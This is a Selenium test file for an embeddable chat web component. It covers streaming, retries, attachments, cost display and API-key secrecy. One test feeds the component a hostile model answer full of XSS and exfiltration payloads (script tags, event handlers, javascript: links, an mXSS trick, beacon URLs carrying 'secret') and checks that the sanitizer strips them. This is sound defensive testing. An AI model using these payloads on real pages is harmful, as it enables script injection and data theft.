"""`<staysail-chat>` on a plain page, with real agents in the page's Python and a real server that plays the provider."""

import base64
import json
import re
import sys
from pathlib import Path

import pytest
from selenium.webdriver.common.keys import Keys

from tests.page.chat_page import ChatPage
from tests.page.test_element_view import violations
from tests.server import TestServer

sys.path.insert(0, str(Path(__file__).parents[1] / "unit" / "rag"))
PAGE = "tests/page/element.html"
DOT = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")


@pytest.fixture(scope="module")
def server():
    with TestServer() as server:
        yield server


@pytest.fixture
def driver(kept_driver):
    return kept_driver


@pytest.fixture
def open_chat(driver, site):
    """A new chat that talks to a box of the test server."""
    opened = []

    def open_chat(box, *, fresh=False, **properties) -> ChatPage:
        chat = ChatPage(driver, site + PAGE, keep="nothing" if fresh else "page")
        opened.append(chat)
        chat.set(model="openai-compatible:m", baseURL=box.url, runtimeURL="/wheels/", **properties)
        return chat

    yield open_chat
    for chat in opened:
        chat.restore()


def asked(seen) -> list[tuple[str, str]]:
    return [(message["role"], message["content"]) for message in seen.json["messages"]]


def test_a_prompt_may_be_written_before_python_is_up_and_goes_out_then(open_chat, server):
    chat = open_chat(server.box({"text": "Hello **there**."}), fresh=True)
    chat.run(
        """
        window.stages = [];
        chat.addEventListener("staysail-progress", ({ detail }) => {
          window.stages.push([detail.stage, root.querySelector(".startup").innerText]);
        });
        """
    )
    chat.send("Hi")
    assert "Python is still starting. Your message goes out as soon as it is up." in chat.text
    assert chat.one("progress").get_attribute("aria-label") == "Start of Python"
    chat.wait_for("Hello there.")
    assert not chat.all(".startup")
    stages = chat.run("return window.stages")
    assert any(re.fullmatch(r"Getting Python for this page, [\d.]+ of [\d.]+ MB", words) for _, words in stages)
    assert [stage for stage, _ in stages][-1] == "ready"
    assert chat.one(".markdown strong").text == "there"
    chat.wait_idle()
    assert "10 tokens in, 5 out" in chat.last_answer
    assert chat.one(".total").text == "This chat: 10 tokens in, 5 out"


def test_each_prompt_carries_the_conversation_and_a_new_chat_begins_without_it(open_chat, server):
    box = server.box({"text": "One."}, {"text": "Two."}, {"text": "Three."})
    chat = open_chat(box, preamble="Be brief.")
    for prompt, answer in [("first", "One."), ("second", "Two.")]:
        chat.send(prompt)
        chat.wait_for(answer)
        chat.wait_idle()
    assert asked(box.seen[1]) == [("system", "Be brief."), ("user", "first"), ("assistant", "One."), ("user", "second")]
    assert chat.one(".total").text == "This chat: 20 tokens in, 10 out"
    chat.button("New chat").click()
    assert "One." not in chat.text
    assert not chat.all(".total:not(:empty)")
    chat.send("third")
    chat.wait_for("Three.")
    assert asked(box.seen[2]) == [("system", "Be brief."), ("user", "third")]


def test_stopping_closes_the_connection_and_keeps_what_was_said(open_chat, server):
    box = server.box({"text": "one two three four five six seven eight nine ten", "delay_s": 0.2}, {"text": "Gladly."})
    chat = open_chat(box)
    chat.send("Count")
    chat.wait_for("three")
    chat.button("Stop").click()
    assert box.seen[0].wait_closed() == "client"
    chat.wait_for("You stopped this answer.")
    assert "ten" not in chat.text
    assert chat.button("Send").is_displayed()
    chat.send("Go on")
    chat.wait_for("Gladly.")
    roles = asked(box.seen[1])
    assert roles[0] == ("user", "Count")
    assert roles[1][0] == "assistant"
    assert roles[1][1].startswith("one two three")


def test_escape_stops_and_the_keyboard_alone_is_enough(open_chat, server):
    box = server.box({"text": "one two three four five six seven", "delay_s": 0.3}, {"text": "Again."})
    chat = open_chat(box)
    chat.driver.switch_to.active_element.send_keys(Keys.TAB)
    assert chat.run("return root.activeElement.role") == "log"  # so that it can be scrolled
    chat.driver.switch_to.active_element.send_keys(Keys.TAB)
    assert chat.run("return root.activeElement.className") == "input"
    outline = chat.run("return getComputedStyle(root.querySelector('.composer')).outlineStyle")
    assert outline != "none"
    focused = chat.one(".input")
    focused.send_keys("line one", Keys.SHIFT + Keys.ENTER)
    focused.send_keys("line two", Keys.ENTER)
    chat.wait_for("two three")
    assert box.seen[0].json["messages"][-1]["content"] == "line one\nline two"
    chat.one(".input").send_keys(Keys.ESCAPE)
    chat.wait_for("You stopped this answer.")
    assert chat.run("return root.activeElement.className") == "input"
    while chat.run("return root.activeElement.textContent") != "Ask again":
        chat.driver.switch_to.active_element.send_keys(Keys.SHIFT + Keys.TAB)
    chat.run("root.activeElement.dataset.chosen = 1")
    chat.one("[data-chosen]").send_keys(Keys.ENTER)
    chat.wait_for("Again.")


def test_a_failure_is_told_in_the_message_that_failed_and_can_be_tried_again(open_chat, server):
    box = server.box({"status": 400, "body": {"error": {"message": "this model takes no jokes"}}}, {"text": "Fine now."})
    chat = open_chat(box)
    chat.run("chat.addEventListener('staysail-error', (event) => (window.fault = event.detail.error.name))")
    chat.send("A joke")
    chat.wait_for("this model takes no jokes")
    fault = chat.one(".assistant .fault")
    assert fault.get_attribute("role") == "alert"
    assert "The provider did not accept the request." in fault.text
    assert "HTTP 400" in fault.get_attribute("textContent")
    assert chat.run("return window.fault") == "BadRequestError"
    chat.button("Try again").click()
    chat.wait_for("Fine now.")
    assert not chat.all(".fault")
    assert asked(box.seen[1]) == [("user", "A joke")]


def test_a_wait_before_another_attempt_is_counted_down_where_it_happens(open_chat, server):
    busy = {"status": 429, "headers": {"retry-after": "2"}, "body": {"error": {"message": "slow down"}}}
    chat = open_chat(server.box(busy, {"text": "Here I am."}))
    chat.send("Hi")
    chat.wait_for("Trying again in")
    assert "(attempt 2)" in chat.text
    chat.wait_for("Here I am.")
    assert "Attempt 2 followed." in chat.text


def test_an_answer_that_breaks_off_keeps_its_beginning_and_says_so(open_chat, server):
    chat = open_chat(server.box({"text": "The beginning of a long answer", "drop": 700, "delay_s": 0.1}, {"text": "Whole."}))
    chat.send("Tell me")
    chat.wait_for("The answer broke off in the middle.")
    assert "The beginning" in chat.text
    chat.button("Try again").click()
    chat.wait_for("Whole.")
    assert "The beginning" not in chat.text


def test_settings_that_cannot_work_are_told_in_the_message_and_correcting_them_is_enough(open_chat, server):
    box = server.box({"text": "Yes."})
    chat = open_chat(box)
    chat.set(model="nowhere:m")
    chat.send("Hi")
    chat.wait_for("The settings do not work.")
    assert "no provider 'nowhere'" in chat.text
    chat.set(model="openai-compatible:m")
    chat.button("Try again").click()
    chat.wait_for("Yes.")


def test_a_runtime_that_cannot_be_loaded_says_so_twice_and_starts_again(open_chat, server):
    chat = open_chat(server.box({"text": "Up."}), fresh=True)
    chat.set(runtimeURL="/wheels/nowhere/")
    chat.send("Hi")
    chat.wait(lambda: chat.all(".startup .fault") and chat.all(".assistant .fault"), "both notices", 60)
    assert "runtime could not be loaded" in chat.one(".assistant .fault").text
    chat.set(runtimeURL="/wheels/")
    chat.one(".assistant .fault button").click()
    chat.wait_for("Up.")
    assert not chat.all(".startup .fault")


def test_tools_run_in_the_page_and_each_call_has_a_card(open_chat, server):
    calls = [{"name": "double", "arguments": {"n": 21}}, {"name": "fail", "arguments": {}}, {"name": "absent", "arguments": {}}]
    box = server.box({"tool_calls": calls}, {"text": "It is 42."})
    chat = open_chat(box)
    chat.run(
        """
        const parameters = { type: "object", properties: { n: { type: "integer" } } };
        chat.tools = [
          { name: "double", description: "Doubles", parameters, execute: ({ n }) => ({ doubled: (document.title = 2 * n) }) },
          { name: "fail", description: "Fails", execute() { throw new RangeError("the well is dry"); } },
        ];
        """
    )
    chat.send("Double 21")
    chat.wait_for("It is 42.")
    cards = {card.find_element("css selector", ".tool-name").text: card for card in chat.all(".tool")}
    assert list(cards) == ["double", "fail", "absent"]
    assert cards["double"].get_attribute("data-state") == "done"
    assert "doubled: 42" in cards["double"].text
    assert "n: 21" in cards["double"].text
    assert "done in" in cards["double"].text
    assert cards["fail"].get_attribute("data-state") == "failed"
    assert "the well is dry" in cards["fail"].text
    assert cards["absent"].get_attribute("data-state") == "failed"
    assert chat.driver.title == "42"
    cards["double"].find_element("css selector", "summary").click()
    assert json.loads(cards["double"].find_element("css selector", "pre").text) == {"n": 21}
    chat.wait_idle()
    assert chat.one(".total").text == "This chat: 20 tokens in, 10 out"


def test_thoughts_are_kept_apart_and_closed(open_chat, server):
    chat = open_chat(server.box({"reasoning": "Should I greet? Yes.", "text": "Hello."}))
    chat.send("Hi")
    chat.wait_for("Hello.")
    assert "Should I greet" not in chat.text
    chat.one(".reasoning summary").click()
    assert "Should I greet? Yes." in chat.text


def test_answers_have_their_cost_and_the_composer_tells_how_full_the_context_is(open_chat, server):
    chat = open_chat(server.box({"text": "Six."}, loop=True))
    chat.set(model="openai-chat:gpt-6-luna", apiKey="sk-cost")
    chat.send("Half a dozen?")
    chat.wait_for("Six.")
    chat.wait(lambda: "$" in chat.last_answer, "the cost")
    assert "10 tokens in, 5 out, under $0.0001" in chat.last_answer
    assert chat.one(".context").text == "under 1 % of the context"
    assert chat.one(".context").get_attribute("title") == "15 of 922,000 tokens of the model's context"
    chat.set(modelFacts={"inputUsd": 1000, "outputUsd": 2000, "contextTokens": 16})
    chat.button("Ask again").click()
    chat.wait(lambda: "$0.02" in chat.last_answer, "the cost by the page's prices")
    assert chat.one(".total").text == "This chat: 20 tokens in, 10 out, $0.02"
    assert chat.one(".context").text == "94 % of the context, which is nearly full"
    for width, scheme in ((360, "dark"), (1024, "light")):
        chat.resize(width)
        chat.prefer(scheme)
        assert violations(chat) == []
        assert chat.width_beyond_screen() <= 0


def test_what_a_model_of_unknown_price_cost_is_not_told(open_chat, server):
    chat = open_chat(server.box({"text": "Six."}))
    chat.send("Half a dozen?")
    chat.wait_for("Six.")
    chat.wait_idle()
    assert "10 tokens in, 5 out" in chat.last_answer
    assert "$" not in chat.one(".total").text
    assert not chat.all(".context")


def test_the_last_question_can_be_edited(open_chat, server):
    box = server.box({"text": "Paris."}, {"text": "Lyon."}, {"text": "Nice."})
    chat = open_chat(box)
    for prompt, answer in [("Capital?", "Paris."), ("Second city", "Lyon.")]:
        chat.send(prompt)
        chat.wait_for(answer)
        chat.wait_idle()
    chat.button("Edit").click()
    field = chat.one(".edit-field")
    assert field.get_attribute("value") == "Second city"
    field.send_keys(" by the sea?" + Keys.ENTER)
    chat.wait_for("Nice.")
    assert "Lyon." not in chat.text
    assert asked(box.seen[2]) == [("user", "Capital?"), ("assistant", "Paris."), ("user", "Second city by the sea?")]


def test_pictures_and_text_are_attached_and_other_files_refused_in_words(open_chat, server, tmp_path):
    box = server.box({"text": "A dot."})
    chat = open_chat(box)
    for name, data in [("dot.png", DOT), ("notes.md", b"# Notes\nten dots"), ("app.exe", b"MZ\0\1")]:
        (tmp_path / name).write_bytes(data)
    picker = chat.host.shadow_root.find_element("css selector", "input[type=file]")
    picker.send_keys("\n".join(str(tmp_path / name) for name in ("dot.png", "notes.md", "app.exe")))
    chat.wait(lambda: "app.exe cannot be attached" in chat.one(".composer").text, "the refusal")
    assert [item.text for item in chat.all(".composer .attachments li")] == ["dot.png", "notes.md"]
    chat.send("What is this?")
    chat.wait_for("A dot.")
    parts = box.seen[0].json["messages"][-1]["content"]
    assert parts[0]["image_url"]["url"] == f"data:image/png;base64,{base64.b64encode(DOT).decode()}"
    assert "ten dots" in parts[1]["text"]
    assert parts[2]["text"] == "What is this?"
    shown = chat.one(".user")
    assert "notes.md" in shown.text
    assert "ten dots" not in shown.text
    assert shown.find_element("css selector", "img").get_property("naturalWidth") == 1
    assert not chat.all(".composer .attachments")


def test_documents_are_attached_as_their_text_and_every_unusable_file_is_named_once(open_chat, server, tmp_path):
    from writers import write_docx, write_epub

    box = server.box({"text": "Read."})
    chat = open_chat(box)
    files = {
        "rules.docx": write_docx(),
        "knots.epub": write_epub(),
        "wide.txt": "Ahoy, weit".encode("utf-16"),
        "latin.txt": "Straße, groß".encode("latin-1"),
        "app.exe": b"MZ\0\1",
        "film.mp4": b"\0\0\0\x20ftyp",
        "broken.docx": b"no zip at all \0",
        "empty.txt": b" ",
    }
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
    picker = chat.host.shadow_root.find_element("css selector", "input[type=file]")
    picker.send_keys("\n".join(str(tmp_path / name) for name in files))
    chat.wait(lambda: "There is no text in empty.txt" in chat.one(".composer").text, "the refusals", 60)
    note = chat.one(".composer-note")
    assert note.get_attribute("role") == "alert"
    assert "app.exe, film.mp4 cannot be attached: pictures" in note.text
    assert "broken.docx" in note.text
    assert [item.text.split("\n")[0] for item in chat.all(".composer .attachments .file-name")] == [*files][:4]
    assert "Attached: rules.docx, knots.epub, wide.txt, latin.txt" in chat.run("return root.querySelector('.composer-status').textContent")
    assert violations(chat) == []
    chat.send("Go.")
    chat.wait_for("Read.")
    content = box.seen[0].json["messages"][-1]["content"]
    sent = content if isinstance(content, str) else "\n".join(part["text"] for part in content)
    for name, words in zip(files, ("quay", "rabbit", "Ahoy, weit", "Straße, groß"), strict=False):
        assert words in sent.partition(f"Attached file {name}:\n\n")[2].partition("Attached file ")[0]
    assert sent.endswith("Go.")


def test_where_files_can_be_dropped_and_taken_is_told(open_chat, server):
    chat = open_chat(server.box({"text": "A dot."}))
    chat.run(
        """
        const transfer = new DataTransfer();
        transfer.items.add(new File(["ten dots"], "notes.md"));
        window.dragged = (type) => root.querySelector(".input").dispatchEvent(
          new DragEvent(type, { dataTransfer: transfer, bubbles: true, cancelable: true, composed: true }));
        window.dragged("dragover");
        """
    )
    assert "Drop files to attach them" in chat.one(".composer-status").text
    chat.wait(lambda: not chat.all(".composer-status"), "the drag to be over")
    chat.run("window.dragged('drop')")
    chat.wait(lambda: chat.all(".composer .attachments li"), "the file")
    assert "pasted and dropped" in chat.button("Attach").get_attribute("title")
    camera = chat.run(
        "const field = root.querySelector('input[capture]'); return ['capture', 'accept'].map((name) => field.getAttribute(name))"
    )
    assert camera == ["environment", "image/*"]
    assert not [node for node in chat.all("button") if node.text == "Camera"], "a mouse takes no pictures"
    chat.driver.execute_cdp_cmd("Emulation.setTouchEmulationEnabled", {"enabled": True})
    chat.driver.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": [{"name": "pointer", "value": "coarse"}]})
    try:
        chat.wait(lambda: chat.all("[part~=camera]"), "the camera's button")
        assert violations(chat) == []
    finally:
        chat.driver.execute_cdp_cmd("Emulation.setTouchEmulationEnabled", {"enabled": False})
        chat.restore()


def test_a_hostile_answer_runs_loads_and_pretends_nothing(open_chat, server):
    spy = server.box(loop=True)
    beacon = f"{spy.url}/beacon"
    hostile = f"""
Hello <script>window.hacked = 'script'</script><img src="x" onerror="window.hacked='onerror'">

![pixel]({beacon}?a=secret) <img src="{beacon}?b"> <img srcset="{beacon}?c 1x">
<picture><source srcset="{beacon}?d"><img src="{beacon}?e"></picture>
<svg onload="window.hacked='svg'"><image href="{beacon}?f"/></svg> <video poster="{beacon}?g" src="{beacon}?h"></video>
<table background="{beacon}?i"><tr><td style="background:url({beacon}?j)">cell</td></tr></table>
<style>:host {{ background: url({beacon}?k) }}</style><link rel="stylesheet" href="{beacon}?l">
<iframe src="{beacon}?m" srcdoc="<script>parent.hacked='frame'</script>"></iframe> <object data="{beacon}?n"></object>
<form action="{beacon}?o"><input name="key"><button>Send</button></form> <base href="{beacon}">
<meta http-equiv="refresh" content="0;url={beacon}?p">
<div class="fault" id="log" role="alert">Your session has ended</div>
<details open ontoggle="window.hacked='toggle'"><summary>x</summary>y</details>

[a](javascript:window.hacked='link') [b](JaVaScRiPt:window.hacked='link') [c](data:text/html,<script>1</script>) [d](https://example.com/ok)
<a href="javascript:window.hacked='anchor'" target="_self">e</a> [f](/relative)

```html
<script>window.hacked = 'code'</script>
```
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked='mxss'&gt;">
"""
    chat = open_chat(server.box({"text": hostile}))
    chat.send("Hi")
    chat.wait_idle()
    chat.wait_for("Hello")
    answer = chat.host.shadow_root.find_element("css selector", ".answer")
    tags = set(chat.run("return [...root.querySelectorAll('.answer *')].map((node) => node.localName)"))
    assert not tags & {
        "script",
        "iframe",
        "object",
        "form",
        "input",
        "style",
        "link",
        "svg:image",
        "video",
        "source",
        "base",
        "meta",
        "math",
    }
    attributes = chat.run(
        "return [...root.querySelectorAll('.markdown *')].flatMap((node) => [...node.attributes].map(({ name }) => name))"
    )
    assert not [name for name in attributes if name.startswith("on") or name in ("style", "srcset", "srcdoc", "background", "poster")]
    links = answer.find_elements("css selector", "a")
    assert [link.text for link in links] == ["a", "b", "c", "d", "e", "f"]
    assert [link.get_attribute("href") for link in links if link.get_attribute("href")] == ["https://example.com/ok"]
    ok = links[3]
    assert ok.get_attribute("target") == "_blank"
    assert "noopener" in ok.get_attribute("rel")
    assert not chat.run("return root.querySelectorAll('.markdown .fault, .markdown #log, .markdown [role=alert]').length")
    for link in (links[0], links[1], links[4]):
        link.click()
    assert chat.run("return window.hacked ?? null") is None
    assert "window.hacked = 'code'" in answer.find_element("css selector", ".code pre").text
    assert spy.seen == []


def test_a_picture_of_a_strangers_is_loaded_only_when_the_user_says_so(open_chat, server):
    png = {"headers": {"content-type": "image/png"}, "base64": base64.b64encode(DOT).decode()}
    gallery = server.box(png)
    chat = open_chat(server.box({"text": f"![a dot]({gallery.url}/dot.png)"}))
    chat.send("Draw a dot")
    chat.wait_idle()
    ask = chat.one(".picture")
    assert ask.text == f"Show the picture “a dot” from {gallery.url.split('/')[2]}"
    assert gallery.seen == []
    ask.click()
    chat.wait(lambda: chat.run("return root.querySelector('.markdown img')?.naturalWidth") == 1, "the picture")
    assert "referer" not in gallery.seen[0].headers


def test_the_api_key_is_nowhere_to_be_read(open_chat, server):
    box = server.box({"status": 401, "body": {"error": {"message": "Incorrect API key provided: sk-very-secret"}}})
    chat = open_chat(box, apiKey="sk-very-secret")
    chat.send("Hi")
    chat.wait_for("did not accept the API key")
    assert box.seen[0].headers["authorization"] == "Bearer sk-very-secret"
    seen = chat.run(
        "return [document.documentElement.outerHTML, root.innerHTML, JSON.stringify({...localStorage, ...sessionStorage}), document.cookie,"
        " String(chat.apiKey)].join()"
    )
    assert "very-secret" not in seen
    assert "very-secret" not in json.dumps(chat.driver.get_log("browser"))
